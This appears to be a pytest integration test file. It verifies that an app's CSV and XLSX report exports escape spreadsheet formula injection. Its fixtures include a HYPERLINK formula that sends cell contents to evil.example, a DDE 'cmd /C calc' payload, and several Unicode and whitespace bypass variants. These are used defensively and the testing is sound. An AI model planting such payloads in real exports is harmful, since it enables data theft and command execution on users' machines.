"""No text becomes a formula in a spreadsheet, whichever report it leaves in and whoever wrote it."""

from __future__ import annotations

import csv
import io
from collections.abc import AsyncIterator
from datetime import timedelta
from typing import Any
from xml.etree import ElementTree
from zipfile import ZipFile

import pytest
from sqlalchemy import insert, text

from app.domain.formulas import as_it_was, is_formula, kept_as_text
from app.embedded.servers import EmbeddedServers
from app.models.contact import Contact, ContactEvent
from app.models.staff import Shift
from app.repositories.ids import new_id
from app.routers.workbook import MEDIA_TYPE
from tests.factories import settings_of
from tests.fixtures.stores import new_database
from tests.integration.golden_desk import GoldenDesk, golden_desk
from tests.integration.golden_month import READ_AT
from tests.integration.test_bad_questions import OF_OCTOBER

EVIL = '=HYPERLINK("http://evil.example/?"&A1;"click")'
SHEET = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"
PARAMETERS = {"year": "2026", "by": "centre", "from": "2026-10-01", "to": "2026-11-01", "centre": "each"}
CALLS = ("/api/statistics", "/api/open-data", "/api/readings", "/api/shifts", "/api/contact-readings")
FORMULAS = [
    EVIL,
    "+1",
    "-1+cmd|' /C calc'!A0",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "\n=1",
    "＝1",
    "－1",
    " =1",
    "\u200b=1",
]


@pytest.mark.parametrize("formula", FORMULAS)
def test_what_would_be_computed_is_marked_and_comes_back(formula: str) -> None:
    assert is_formula(formula)
    assert not is_formula(kept_as_text(formula))
    assert as_it_was(kept_as_text(formula)) == formula


@pytest.mark.parametrize(
    "plain", ["", "Ane", "UTD.BAC", "2026-10-01", "a=b", "O'Neil", "'sitat'", "–", "1-2"]
)
def test_other_text_is_as_it_was(plain: str) -> None:
    assert kept_as_text(plain) == as_it_was(plain) == plain


@pytest.fixture(scope="module")
async def desk(servers: EmbeddedServers, migrated_template: str) -> AsyncIterator[GoldenDesk]:
    """The golden month, after which centres, people, topics and reasons are all called by a formula."""
    with new_database(servers, migrated_template) as database_url:
        async with golden_desk(settings_of(database_url, servers.valkey_url, "formulas")) as found:
            await poison(found)
            yield found


async def poison(desk: GoldenDesk) -> None:
    """Everything that people may name gets the name."""
    async with desk.desk.transaction() as tx:
        await tx.run(text("INSERT INTO centre (code, name) VALUES (:evil, '{}')"), {"evil": EVIL})
        words = {"words": f'{{"nb": {_json(EVIL)}, "nn": {_json(EVIL)}, "en": {_json(EVIL)}}}'}
        await tx.run(text("UPDATE topic SET label = label || CAST(:words AS jsonb)"), words)
        await tx.run(text("UPDATE centre SET name = name || CAST(:words AS jsonb)"), words)
        await tx.run(text("UPDATE staff SET name = :evil, centre = :evil"), {"evil": EVIL})
        contact_id, at = new_id(tx.now), READ_AT - timedelta(days=9)
        life = {"state": "closed", "version": 3, "arrived_at": at, "since": at, "answered_centre": EVIL}
        await tx.run(insert(Contact).values(id=contact_id, channel="chat", language="nb", **life))
        who = (await tx.run(text("SELECT id FROM counsellor LIMIT 1"))).scalar_one()
        for state, cause in (("queued", "arrived"), ("active", "taken"), ("closed", "wrapped_up")):
            event = {"at": at, "to_state": state, "cause": cause, "counsellor_id": who, "centre": EVIL}
            await tx.run(insert(ContactEvent).values(contact_id=contact_id, **event))
        soon = READ_AT + timedelta(days=1)
        shift = {"starts_at": soon, "ends_at": soon + timedelta(hours=2), "channels": ["chat"]}
        await tx.run(insert(Shift).values(id=new_id(tx.now), counsellor_id=who, **shift))


def _json(words: str) -> str:
    return '"' + words.replace('"', '\\"') + '"'


def files(desk: GoldenDesk) -> list[tuple[str, dict[str, str]]]:
    """Every call that may leave as a file, with a question that it can answer."""
    found = []
    for path, calls in desk.app.openapi()["paths"].items():
        if "get" in calls and path.startswith(CALLS) and "{" not in path:
            named = {one["name"] for one in calls["get"].get("parameters", ()) if one["in"] == "query"}
            given = {name: value for name, value in PARAMETERS.items() if name in named}
            found.append((path, {name: value for name, value in given.items() if name != "by"}))
            if "by" in given:
                found[-1][1].pop("centre", None)
                found.append((path, {**found[-1][1], "by": "centre"}))
    return found


async def read(desk: GoldenDesk, path: str, given: dict[str, str], kind: str) -> Any:
    """The file, or none where the call has none of this kind."""
    answer = await desk.http.get(path, params=given, headers={"Accept": kind})
    assert answer.status_code in {200, 406}, (path, answer.text[:300])
    return answer.content if answer.headers["content-type"].startswith(kind.split(";")[0]) else None


async def test_no_cell_of_any_csv_is_a_formula(desk: GoldenDesk) -> None:
    met, read_files = set[str](), set[str]()
    for path, given in files(desk):
        content = await read(desk, path, given, "text/csv")
        if content is None:
            continue
        read_files.add(path)
        for row in csv.reader(io.StringIO(content.decode("utf-8-sig")), delimiter=";"):
            wrong = [cell for cell in row if is_formula(cell) and not _is_number(cell)]
            assert wrong == [], path
            met |= {path for cell in row if cell == f"'{EVIL}"}
    assert read_files >= {f"/api/statistics/{name}" for name in ("load", "figures", "topics", "annual")}
    assert met >= {"/api/statistics/load", "/api/statistics/figures", "/api/statistics/topics", "/api/shifts"}


async def test_no_cell_of_any_xlsx_is_a_formula(desk: GoldenDesk) -> None:
    met = set[str]()
    for path, given in files(desk):
        content = await read(desk, path, given, MEDIA_TYPE)
        if content is None:
            continue
        with ZipFile(io.BytesIO(content)) as archive:
            names = [name for name in archive.namelist() if "/sheet" in name]
            sheets = [ElementTree.fromstring(archive.read(name)) for name in names]
        for sheet in sheets:
            assert sheet.find(f".//{SHEET}f") is None
            cells = [cell for cell in sheet.iter(f"{SHEET}c") if "".join(cell.itertext()) == EVIL]
            assert all(cell.get("t") == "inlineStr" for cell in cells)
            met |= {path for _ in cells}
    assert met >= {"/api/statistics/load", "/api/statistics/figures", "/api/statistics/topics"}


def _is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


async def test_a_streamed_file_says_how_many_rows_will_come(desk: GoldenDesk) -> None:
    answer = await desk.http.get(f"/api/statistics/load?{OF_OCTOBER}", headers={"Accept": "text/csv"})
    assert answer.headers["desk-rows"] == str(745 * 2)
    assert len(answer.content.splitlines()) == 745 * 2 + 1
